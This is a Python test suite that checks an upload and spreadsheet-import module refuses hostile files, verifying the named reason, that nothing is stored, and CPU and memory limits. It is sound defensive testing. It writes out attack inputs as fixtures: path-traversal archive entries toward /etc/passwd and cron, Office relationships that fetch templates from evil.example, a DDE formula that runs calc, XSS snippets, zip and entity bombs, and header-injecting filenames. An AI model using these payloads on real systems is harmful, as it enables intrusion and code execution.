"""A folder of hostile files, made anew each time: each is refused with its name and a reason, and leaves nothing behind.

`FILES` go to the attachments, `TABLES` to the imports; a name ends as the place where it is sent takes it.
"""

from __future__ import annotations

import io
import resource
import time
from collections.abc import Callable
from pathlib import Path
from random import Random

import pytest
from PIL import Image

from kernel.actor import Actor
from kernel.calendar import Holiday
from kernel.errors import Refused
from kernel.files import WITH_OLD_OFFICE, WITH_ZIP, Storage, clean_name, store_upload
from kernel.files.contents import TRIAL_VIRUS
from kernel.tables import read_table
from tests.factories.hostile import (
    EICAR,
    SOUND_PDF,
    archive,
    compound,
    lying_archive,
    office,
    old_workbook,
    png,
    workbook,
)

SENDER = Actor.system("tests")
HEADINGS = ["社会组织名称", "等级"]
LONGEST = 10.0  # seconds of processor that the worst of them may cost
LARGEST = 300  # MB by which this process may grow

ELSE, DAMAGED, HERE = "its content is something else", "is damaged", "cannot be taken here"
BOMB, MACROS, VIRUS, REMOTE = "unpacks to far more", "macros", "carries a virus", "from the network"
UNUSUAL, FAR, NO_TABLE = "built in an unusual way", "more than 20000 rows or 200 columns", "is not a spreadsheet"
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
NOISE = Random(7).randbytes((1 << 20) - 30)  # ends where two pieces of the reading meet
ANY = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str) -> dict[str, bytes]:
    told = f'<Relationships><Relationship Id="a" Type="{ANY}/{kind}" TargetMode="External" Target="{target}"/>'
    return {"word/_rels/settings.xml.rels": f"{told}</Relationships>".encode()}


def picture(kind: str) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (400, 300)).save(target, kind)
    return target.getvalue()


def two_million_rows() -> bytes:
    rows = b"<row/>" * 2_000_000
    return workbook(HEADINGS, more={"xl/worksheets/sheet9.xml": b"<sheetData>" + rows + b"</sheetData>"})


Row = tuple[str, Callable[[], bytes], str]

FILES: tuple[Row, ...] = (
    # name                       content                                                       what is said
    ("网页冒充.pdf", lambda: b"<html><script>alert(1)</script></html>", ELSE),
    ("程序冒充.jpg", lambda: b"MZ" + b"\0" * 300, ELSE),
    ("图片冒充.png", lambda: picture("JPEG"), ELSE),
    ("表格冒充.docx", lambda: office("xl"), ELSE),
    ("文字冒充.xls", lambda: b"hello", ELSE),
    ("两面.pdf", lambda: SOUND_PDF + archive({"a.html": b"x"}), ELSE),
    ("两面.docx", lambda: b"<script>/*" + office("word"), ELSE),
    ("两面.zip", lambda: archive({"a.txt": b"x"}, prefix=SOUND_PDF), ELSE),
    ("截断.png", lambda: picture("PNG")[:200], DAMAGED),
    ("穿越.zip", lambda: archive({"../../etc/cron.d/x": b"x"}), DAMAGED),
    ("绝对路径.zip", lambda: archive({"/etc/passwd": b"x"}), DAMAGED),
    ("谎报大小.zip", lambda: lying_archive(3 << 20), DAMAGED),
    ("炸弹.zip", lambda: archive({"a.txt": b"\0" * (30 << 20)}), BOMB),
    ("炸弹.xlsx", lambda: office("xl", {"xl/a.xml": b" " * (30 << 20)}), BOMB),
    ("成员太多.zip", lambda: archive({f"{number}.txt": b"" for number in range(2_001)}), BOMB),
    ("实体炸弹.docx", lambda: office("word", {"word/a.xml": DTD}), BOMB),
    ("像素炸弹.png", lambda: png(30_000, 30_000), "more than 40 million pixels"),
    ("套娃.zip", lambda: archive({"a.zip": archive({"b.zip": b"x"})}), "another archive"),
    ("程序.zip", lambda: archive({"a/run.EXE": b"MZ"}), "a program"),
    ("带宏.xlsm", lambda: office("xl", {"xl/vbaProject.bin": b"x"}), HERE),
    ("带宏.xlsx", lambda: office("xl", {"xl/vbaProject.bin": b"x"}), MACROS),
    ("旧式宏表.xlsx", lambda: office("xl", {"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
    ("旧式宏.xls", lambda: compound({"Workbook": b"x", "_VBA_PROJECT": b"x"}), MACROS),
    ("加密.xls", lambda: compound({"Workbook": b"x", "EncryptedPackage": b"x"}), MACROS),
    ("远程模板.docx", lambda: office("word", related("attachedTemplate", "https://evil.example/a.dotm")), REMOTE),
    ("远程对象.docx", lambda: office("word", related("oleObject", r"\\evil.example\share\a")), REMOTE),
    ("编码地址.docx", lambda: office("word", related("attachedTemplate", "&#104;ttps://evil.example/a")), REMOTE),
    ("外部链接.xlsx", lambda: office("xl", related("externalLinkPath", "file://evil.example/a.xlsx")), REMOTE),
    ("病毒.pdf", lambda: SOUND_PDF + EICAR + b"\n%%EOF\n", VIRUS),
    ("病毒.doc", lambda: compound({"WordDocument": b"x" * 300 + EICAR}), VIRUS),
    ("病毒.zip", lambda: archive({"a.txt": NOISE + EICAR}), VIRUS),
    ("网页.html", lambda: b"<script>alert(1)</script>", HERE),
    ("图.svg", lambda: b"<svg onload='alert(1)'/>", HERE),
    ("脚本.pdf.js", lambda: SOUND_PDF, HERE),
    ("空.pdf", lambda: b"", "is empty"),
    ("太大.pdf", lambda: SOUND_PDF + b" " * (20 << 20), "is larger than 20 MB"),
)

TABLES: tuple[Row, ...] = (
    ("网页冒充.xlsx", lambda: b"<html></html>", NO_TABLE),
    ("带宏.xlsm", lambda: workbook(HEADINGS), NO_TABLE),
    ("文档冒充.xlsx", lambda: office("word"), "cannot be read"),
    ("炸弹.xlsx", lambda: workbook(HEADINGS, more={"xl/a.xml": b" " * (40 << 20)}), UNUSUAL),
    ("套娃.xlsx", lambda: workbook(HEADINGS, more={"xl/embeddings/a.xlsx": b"x"}), UNUSUAL),
    ("成员太多.xlsx", lambda: workbook(HEADINGS, more={f"x{number}": b"" for number in range(600)}), UNUSUAL),
    ("实体炸弹.xlsx", lambda: workbook(HEADINGS, more={"xl/a.xml": DTD}), UNUSUAL),
    ("远角.xls", lambda: old_workbook({(0, 0): "a", (65_535, 255): 1.0}), UNUSUAL),
    ("更远.xls", lambda: old_workbook({(0, 0): "a", (65_535, 65_535): 1.0}), UNUSUAL),
    ("多行.xls", lambda: old_workbook({(0, 0): "a", (30_000, 1): 1.0}), FAR),
    ("破损.xls", lambda: compound({"Workbook": b"\xff" * 5000}), "cannot be read"),
    ("两百万行.xlsx", two_million_rows, FAR),
    ("两百万行.csv", lambda: b"a,b\n" * 2_000_000, FAR),
    ("五十万列.csv", lambda: b"," * 500_000, FAR),
    ("空.xlsx", lambda: b"", NO_TABLE),
    ("太大.csv", lambda: b"a,b\n" * (3 << 20), "is larger than 10 MB"),
)


def reason_of(refused: pytest.ExceptionInfo[Refused]) -> str:
    (told,) = refused.value.reasons
    return told.render("en")


@pytest.mark.parametrize(("name", "make", "told"), FILES, ids=[row[0] for row in FILES])
def test_a_hostile_attachment_is_refused_and_not_kept(
    name: str, make: Callable[[], bytes], told: str, tmp_path: Path
) -> None:
    content, storage = make(), Storage(tmp_path)
    begun = time.process_time()

    with pytest.raises(Refused) as refused:
        store_upload(
            io.BytesIO(content),
            name,
            owner=Holiday(),
            kind="proof",
            actor=SENDER,
            allowed=WITH_OLD_OFFICE | WITH_ZIP,
            storage=storage,
        )

    assert told in reason_of(refused)
    assert name in reason_of(refused)
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []
    assert time.process_time() - begun < LONGEST


@pytest.mark.parametrize(("name", "make", "told"), TABLES, ids=[row[0] for row in TABLES])
def test_a_hostile_workbook_is_refused_within_bounds(name: str, make: Callable[[], bytes], told: str) -> None:
    content, begun, grown = make(), time.process_time(), largest_so_far()

    with pytest.raises(Refused) as refused:
        read_table(content, name, wanted=HEADINGS)

    assert told in reason_of(refused)
    assert name in reason_of(refused)
    assert time.process_time() - begun < LONGEST
    assert largest_so_far() - grown < LARGEST


def largest_so_far() -> float:
    """Give the most memory that this process has ever held, in MB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_what_a_sound_file_may_hold_is_taken(tmp_path: Path) -> None:
    """The refusals above say something only because their neighbours are taken."""
    from kernel.files.contents import check_content, kind_of  # noqa: PLC0415

    link = related("hyperlink", "https://example.org/")
    for name, content in {
        "链接.docx": office("word", link),
        "本地链接.xlsx": office("xl", related("externalLinkPath", "file:///C:/a.xlsx")),
        "旧表.xls": old_workbook({(0, 0): "a"}),
        "资料.zip": archive({"a/b.txt": NOISE}),
        "图.png": picture("PNG"),
    }.items():
        path = tmp_path / "x"
        path.write_bytes(content)
        check_content(path, kind_of(name, WITH_OLD_OFFICE | WITH_ZIP), name)


def test_formulas_and_links_of_a_workbook_are_neither_run_nor_followed() -> None:
    links = {"xl/externalLinks/externalLink1.xml": b"<x/>"}
    content = workbook(
        HEADINGS, ['=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0"], ["示例甲", "5A"], more=links
    )

    table = read_table(content, "公式.xlsx", wanted=HEADINGS)

    assert table.rows == [[None, None], ["示例甲", "5A"]]


def test_an_old_workbook_is_read_in_a_process_of_its_own() -> None:
    table = read_table(old_workbook({(0, 0): "社会组织名称", (0, 1): "等级", (1, 0): "示例甲", (1, 1): 5.0}), "a.xls")

    assert (table.headers, table.rows) == (tuple(HEADINGS), [["示例甲", 5]])


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\a.pdf", "a.pdf"),
        ("合同\u202efdp.exe", "合同fdp.exe"),
        ("\u2066a\u2069.pdf", "a.pdf"),
        ("a\r\nContent-Type: text/html\r\n\r\n.pdf", "html.pdf"),
        ("a\x00.pdf", "a.pdf"),
        ("名" * 300 + ".pdf", "名" * 196 + ".pdf"),
        ("....", "file"),
        ("申报书（终稿）第２版.pdf", "申报书（终稿）第２版.pdf"),
    ],
)
def test_a_name_deceives_neither_an_eye_nor_a_path(typed: str, kept: str) -> None:
    assert clean_name(typed) == kept


def test_the_trial_virus_is_the_one_of_the_scanners() -> None:
    assert TRIAL_VIRUS == EICAR
    assert len(EICAR) == 68
